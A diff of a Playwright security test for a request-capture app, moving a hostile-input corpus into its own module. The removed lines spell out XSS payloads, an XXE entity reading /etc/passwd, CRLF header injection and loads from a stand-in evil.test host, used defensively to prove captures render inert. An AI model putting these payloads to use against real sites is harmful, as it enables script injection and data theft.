@@ -2,153 +2,7 @@ import type { Page } from "@playwright/test";
 import type { CreatedShare } from "#lib/contract/share.ts";
 import { exchange } from "#lib/testing/raw-http.ts";
 import { captureDetail, expect, openDashboard, rows, test } from "./fixtures.ts";
-
-/** Where a capture would take what it stole. No test may ever see a request to it. */
-const EVIL = "https://evil.test";
-const RUN = "window.pwned=1,document.title='pwned',alert(1)";
-const MARKUP = `"'></title></textarea></script><script>${RUN}</script><img src=x onerror="${RUN}"><svg onload="${RUN}"><iframe src="javascript:${RUN}"></iframe><style>*{display:none!important;background:url(${EVIL}/css)}</style><link rel=stylesheet href=${EVIL}/x.css><base href=${EVIL}/><meta http-equiv=refresh content="0;url=${EVIL}">`;
-const HTML = `<!doctype html><html><head>${MARKUP}</head><body onload="${RUN}"><form action=${EVIL}><button autofocus onfocus="${RUN}">x</button></form><img src="${EVIL}/pixel.gif"><a href="javascript:${RUN}">a</a><div style="position:fixed;inset:0;background:url(${EVIL}/bg)">cover</div></body></html>`;
-const SVG = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${RUN}"><script>${RUN}</script><image xlink:href="${EVIL}/i.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${RUN}"/></body></foreignObject><text>&e;</text></svg>`;
-/** Right-to-left override, isolates, zero width, BOM, terminal escapes, C1. */
-const CONTROLS =
-  "\u202egnp.exe\u2066\u2069\u200b\u200f\ufeff\u001b[31m\u0007\u0008\u0085\u2028\u2029";
-
-type Hostile = { name: string; target?: string; headers: string[]; body?: string | Buffer };
-
-const ESCAPED = encodeURIComponent(MARKUP);
-
-const CORPUS: Hostile[] = [
-  { name: "HTML", headers: ["Content-Type: text/html"], body: HTML },
-  {
-    name: "script in every field",
-    target: `/${ESCAPED}<script>${RUN}</script>?<svg/onload=${RUN}>=<b>&q=${ESCAPED}#${RUN}`,
-    headers: [`X-Markup: ${MARKUP}`, `User-Agent: ${MARKUP}`, `Content-Type: text/html;${MARKUP}`],
-    body: JSON.stringify({ [MARKUP]: MARKUP, __proto__: 1, constructor: { prototype: MARKUP } }),
-  },
-  {
-    name: "JSON",
-    headers: ["Content-Type: application/json"],
-    body: JSON.stringify([MARKUP, HTML]),
-  },
-  { name: "SVG", headers: ["Content-Type: image/svg+xml"], body: SVG },
-  { name: "XML", headers: ["Content-Type: application/xml"], body: SVG },
-  {
-    name: "an image that is HTML",
-    headers: ["Content-Type: image/png"],
-    body: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), Buffer.from(HTML)]),
-  },
-  {
-    name: "a GIF that is a script",
-    headers: ["Content-Type: image/gif"],
-    body: `GIF89a=1;${RUN};/*${HTML}*/`,
-  },
-  {
-    name: "a PDF with a script",
-    headers: ["Content-Type: application/pdf"],
-    body: `%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(${RUN})>>>>endobj\n${HTML}`,
-  },
-  {
-    name: "file names of HTML",
-    headers: ["Content-Type: multipart/form-data; boundary=b"],
-    body: `--b\r\nContent-Disposition: form-data; name="<img src=x onerror=${RUN}>"; filename="<svg onload=${RUN}>.html"\r\nContent-Type: text/html\r\n\r\n${HTML}\r\n--b\r\nContent-Disposition: form-data; name="../../etc/passwd\u202egnp"; filename="a\r\nSet-Cookie: x=1"\r\n\r\n${CONTROLS}\r\n--b--\r\n`,
-  },
-  {
-    name: "a form",
-    headers: ["Content-Type: application/x-www-form-urlencoded"],
-    body: `${ESCAPED}=${ESCAPED}&%00=%00&%ED%A0%80=%FF&a=%0d%0aSet-Cookie:x=1`,
-  },
-  {
-    name: "header injection",
-    target: "/a%0d%0aSet-Cookie:%20x=1%0d%0a%0d%0a<script>",
-    headers: [
-      'Content-Disposition: inline; filename="x.html"',
-      "Set-Cookie: inlet=stolen",
-      "Location: javascript:alert(1)",
-      `Refresh: 0;url=${EVIL}`,
-      `Link: <${EVIL}/x.css>; rel=stylesheet`,
-    ],
-    body: "x\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
-  },
-  {
-    name: "control characters",
-    target: `/${encodeURIComponent(CONTROLS)}`,
-    headers: [
-      `X-Controls: ${Buffer.from("\u202egnp\u2066\u200b\u0085").toString("latin1")}`,
-      "Content-Type: text/plain",
-    ],
-    body: `${CONTROLS}\u0000${"\u0301".repeat(300)}`,
-  },
-  { name: "a long header", headers: [`X-Long: ${"W".repeat(60 * 1024)}`], body: "x" },
-  {
-    name: "long words",
-    headers: [`${"X-".repeat(2_000)}Name: 1`],
-    target: `/${"W".repeat(8_000)}`,
-    body: "W".repeat(60_000),
-  },
-  {
-    name: "NUL bytes",
-    headers: ["Content-Type: text/html"],
-    body: Buffer.from(`<\0script\0>${RUN}<\0/script>\0\0`),
-  },
-  {
-    name: "lone surrogates",
-    headers: ["Content-Type: application/json"],
-    body: Buffer.concat([
-      Buffer.from('{"a":"\\ud800","\\udfff":"'),
-      Buffer.from([0xed, 0xa0, 0x80]),
-      Buffer.from('"}'),
-    ]),
-  },
-  {
-    name: "deep JSON",
-    headers: ["Content-Type: application/json"],
-    body: `${"[".repeat(20_000)}${"]".repeat(20_000)}`,
-  },
-];
-
-function toBytes(binId: string, { target = "", headers, body = "" }: Hostile): Buffer {
-  const bytes = Buffer.from(body);
-  const head = [
-    `POST /in/${binId}${target.replaceAll(" ", "%20")} HTTP/1.1`,
-    "Host: inlet.test",
-    ...headers,
-  ];
-  const text = `${head.join("\r\n")}\r\nContent-Length: ${bytes.length}\r\n\r\n`;
-  return Buffer.concat([Buffer.from(text, "latin1"), bytes]);
-}
-
-/** Anything that a capture made the page do. */
-function watchForHarm(page: Page): string[] {
-  const harm: string[] = [];
-  page.on("dialog", (dialog) => {
-    harm.push(`dialog: ${dialog.message()}`);
-    void dialog.dismiss();
-  });
-  page.on("request", (request) => {
-    if (/evil\.test|passwd/.test(request.url())) harm.push(request.url());
-  });
-  page.on("popup", (popup) => harm.push(`popup: ${popup.url()}`));
-  return harm;
-}
-
-async function expectUnharmed(page: Page, harm: string[], where: string) {
-  expect(harm, where).toEqual([]);
-  const state = await page.evaluate(() => ({
-    pwned: "pwned" in window,
-    title: document.title,
-    base: document.baseURI === location.href || document.querySelector("base") === null,
-    // No text makes the page wider than the window, nor hides what is ours.
-    fits: document.documentElement.scrollWidth <= document.documentElement.clientWidth,
-    visible: document.querySelector("main")?.checkVisibility(),
-  }));
-  expect(state, where).toEqual({
-    pwned: false,
-    title: expect.not.stringContaining("pwned"),
-    base: true,
-    fits: true,
-    visible: true,
-  });
-}
+import { CORPUS, expectUnharmed, toBytes, watchForHarm } from "./hostile-corpus.ts";
 
 test.describe("a hostile capture runs and breaks nothing, in any view, page or download", () => {
   for (const hostile of CORPUS) {
@@ -159,7 +13,7 @@ test.describe("a hostile capture runs and breaks nothing, in any view, page or d
       await exchange(server.port, toBytes(bin.id, hostile));
       const [capture] = await bin.all();
       const { id } = capture!;
-      const harm = watchForHarm(page);
+      const harm = await watchForHarm(page);
 
       await openDashboard(page, bin, id);
       await expect(captureDetail(page).getByRole("heading", { level: 2 })).toHaveText("Capture #1");
@@ -191,6 +45,7 @@ test.describe("a hostile capture runs and breaks nothing, in any view, page or d
           await page.goto(of.startsWith("/bins") ? `${url}?capture=${id}` : url);
           await expect(page.getByRole("heading", { level: 1 })).toHaveText(/^Shared/);
           await expectUnharmed(page, harm, `shared, ${redact ? "redacted" : "as sent"}`);
+          if (!redact) await expectViewsUnharmed(page, harm);
           const shared = `/shared/${new URL(url).pathname.slice(3)}/captures/${id}`;
           for (const path of [`${shared}/body`, `${shared}/http`]) await expectInert(page, path);
         }
@@ -201,6 +56,17 @@ test.describe("a hostile capture runs and breaks nothing, in any view, page or d
     });
   }
 });
+
+/** In place of what the server wrote. */
+async function expectViewsUnharmed(page: Page, harm: string[]) {
+  const views = page.getByRole("tablist", { name: "How to show the body" }).first();
+  await expect(views).toBeVisible();
+  for (const name of await views.getByRole("tab").allTextContents()) {
+    await views.getByRole("tab", { name, exact: true }).click();
+    await expect(views.getByRole("tab", { selected: true })).toHaveText(name);
+    await expectUnharmed(page, harm, `shared, view ${name}`);
+  }
+}
 
 /** A download that no browser shows, sniffs or runs. */
 async function expectInert(page: Page, path: string) {
